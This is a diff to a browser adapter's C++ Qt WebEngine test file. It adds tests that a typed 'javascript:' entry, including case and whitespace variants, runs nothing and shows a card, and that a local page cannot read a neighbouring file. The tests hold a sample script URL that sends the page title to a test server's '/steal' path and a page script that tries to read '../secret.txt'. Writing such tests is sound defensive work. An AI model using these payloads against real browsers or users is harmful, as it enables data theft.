@@ -1,12 +1,14 @@
 #include "browse/engine_on_demand_browser.h"
 #include "browse/webengine/url_from_user_text.h"
 #include "browse/webengine/webengine_browser.h"
+#include "support/page_server.h"
 #include "support/webengine_test_main.h"
 
 #include <QSignalSpy>
+#include <QWebEngineView>
 
 // The browser adapter on the real engine: what it makes of an entry, when an entry's
-// page counts as come, and a window without its engine plugin.
+// page counts as come, what a page may reach, and a window without its engine plugin.
 class BrowserEngine : public QObject {
     Q_OBJECT
 
@@ -31,6 +33,64 @@ private slots:
                {"", "about:blank"}};
         for (const auto& [text, url] : typed)
             QCOMPARE(urlFromUserText(text, "/tmp").toString(QUrl::PrettyDecoded), url);
+    }
+
+    // An entry that is a script would run inside the page on screen and could send what
+    // it shows anywhere: a card says what it is, nothing runs and nothing is asked.
+    void scriptEntryGetsACardAndRunsNothing()
+    {
+        PageServer server;
+        QVERIFY(server.listen());
+        QTemporaryDir folder;
+        QFile local(folder.filePath("local.html"));
+        QVERIFY(local.open(QIODevice::WriteOnly) && local.write("<title>local</title><p>private") > 0);
+        local.close();
+        const QString steal = "location='" + server.url("/steal?t=") + "'+encodeURIComponent(document.title)//?2024";
+        WebEngineBrowser browser;
+        browser.show();
+        QSignalSpy completed(&browser, &WebBrowser::DocumentComplete), cards(&browser, &WebBrowser::cardShown);
+        for (const QString scheme : {"javascript:", "JavaScript:", " javascript:", "java\tscript:"}) {
+            browser.Navigate(local.fileName());
+            QTRY_VERIFY_WITH_TIMEOUT(completed.size() == 1 && !browser.isShowingCard(), 20000);
+            browser.Navigate(scheme + steal);
+            QTRY_VERIFY_WITH_TIMEOUT(completed.size() == 2 && browser.isShowingCard(), 20000);
+            QVERIFY2(cards.last().first().toString().contains("script"), qPrintable(scheme));
+            completed.clear();
+        }
+        // Had a script run, its request would have come before this page's.
+        server.addPage("/after.html", "<title>after</title>");
+        browser.Navigate(server.url("/after.html"));
+        QTRY_VERIFY_WITH_TIMEOUT(browser.view()->title() == "after" && !browser.isShowingCard(), 20000);
+        QCOMPARE(server.paths(), QStringList{"/after.html"});
+        QCOMPARE(cards.last().first().toString(), QString());
+    }
+
+    // A playlist's local page reads no other file. The program's own pages, in a folder
+    // whose name holds '#' and '?', show with their pictures.
+    void localPageReadsNoOtherFile()
+    {
+        QTemporaryDir folder;
+        QVERIFY(QDir(folder.path()).mkdir("help #1 ?"));
+        const std::pair<const char*, QByteArray> files[]
+            = {{"secret.txt", "secret"},
+               {"help #1 ?/picture.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>"},
+               {"help #1 ?/page.html", R"html(<script>
+                const said = [], say = (what) => { said.push(what); document.title = said.sort().join(' '); };
+                const read = new XMLHttpRequest();
+                read.onload = () => say('read ' + read.responseText);
+                read.onerror = () => say('refused');
+                try { read.open('GET', '../secret.txt'); read.send(); } catch (e) { say('refused'); }
+                </script><img src="picture.svg" onload="say('picture')" onerror="say('no picture')">)html"}};
+        for (const auto& [name, content] : files) {
+            QFile file(folder.filePath(name));
+            QVERIFY(file.open(QIODevice::WriteOnly) && file.write(content) == content.size());
+        }
+        WebEngineBrowser browser;
+        QFile::copy(folder.filePath("help #1 ?/page.html"), folder.filePath("page.html"));
+        browser.Navigate(folder.filePath("page.html"));
+        QTRY_VERIFY_WITH_TIMEOUT(browser.view()->title().endsWith("refused"), 20000);
+        browser.NavigateToFile(folder.filePath("help #1 ?/page.html"));
+        QTRY_VERIFY_WITH_TIMEOUT(browser.view()->title().startsWith("picture"), 20000);
     }
 
     void missingEnginePluginLeavesTheWindowWorking()
